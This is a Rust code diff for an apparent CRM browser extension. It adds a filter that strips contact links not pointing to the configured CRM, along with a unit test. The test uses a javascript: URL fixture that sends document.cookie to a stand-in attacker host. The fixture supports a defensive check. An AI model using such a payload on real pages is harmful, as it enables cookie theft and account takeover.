@@ -665,6 +665,41 @@ pub enum ContentReply {
     },
 }
 
+impl ContentReply {
+    /// Drops every contact link that does not lead to the configured CRM (PRODUCT.md S5): the
+    /// content script renders them on the site's pages. Without a CRM, no link is kept.
+    pub fn keep_crm_links(&mut self, crm: Option<&crate::settings::CrmOrigin>) {
+        let keep = |card: &mut ContactCard| {
+            if crm.and_then(|o| o.link(&card.url)).is_none() {
+                card.url.clear();
+            }
+        };
+        match self {
+            Self::Lookup { badges } => {
+                for badge in badges {
+                    badge.contact.iter_mut().for_each(keep);
+                    badge
+                        .matches
+                        .iter_mut()
+                        .map(|m| &mut m.contact)
+                        .for_each(keep);
+                }
+            }
+            Self::ExportTicket { contact, .. } => contact.iter_mut().for_each(keep),
+            Self::NeedsConfirmation { contact } | Self::Assigned { contact } => keep(contact),
+            Self::ExportResult(ExportOutcome::Done { contact }) => keep(contact),
+            Self::PdfQueryIds { .. }
+            | Self::Done
+            | Self::Refused { .. }
+            | Self::ExportContext(_)
+            | Self::Catalog { .. }
+            | Self::ExportBlocked { .. }
+            | Self::ExportResult(_)
+            | Self::Failed { .. } => {}
+        }
+    }
+}
+
 impl Bounded for ContentReply {
     fn check(&self) -> Result<(), ProtocolError> {
         Ok(())
@@ -791,6 +826,53 @@ mod tests {
     }
 
     // The content script reads badge states and export blocks by their wire names, without
+    // proves S5: a contact link that does not lead to the CRM never reaches the page.
+    #[test]
+    fn only_crm_links_reach_the_content_script() {
+        let card = |url: &str| ContactCard {
+            url: url.into(),
+            ..ContactCard::default()
+        };
+        let good = "https://crm.example.com/contacts/7";
+        let bad = "javascript:fetch('//evil.example/?'+document.cookie)";
+        let mut reply = ContentReply::Lookup {
+            badges: vec![
+                BadgeView {
+                    contact: Some(card(good)),
+                    ..BadgeView::bare(BadgeState::InCrm)
+                },
+                BadgeView {
+                    contact: Some(card(bad)),
+                    matches: vec![ContactMatch {
+                        contact: card(bad),
+                        score: 0.9,
+                        matched_on: vec![],
+                    }],
+                    ..BadgeView::bare(BadgeState::Multiple)
+                },
+            ],
+        };
+        let crm = crate::settings::CrmUrl::parse("https://crm.example.com")
+            .unwrap()
+            .crm_origin();
+        reply.keep_crm_links(Some(&crm));
+        let ContentReply::Lookup { badges } = &reply else {
+            unreachable!()
+        };
+        assert_eq!(badges[0].contact.as_ref().unwrap().url, good);
+        assert_eq!(badges[1].contact.as_ref().unwrap().url, "");
+        assert_eq!(badges[1].matches[0].contact.url, "");
+
+        let mut done = ContentReply::ExportResult(ExportOutcome::Done {
+            contact: Box::new(card(good)),
+        });
+        done.keep_crm_links(None);
+        let ContentReply::ExportResult(ExportOutcome::Done { contact }) = done else {
+            unreachable!()
+        };
+        assert_eq!(contact.url, "", "without a configured CRM no link is kept");
+    }
+
     // serde: those names must be exactly what serde writes.
     #[test]
     fn wire_names_match_serde() {
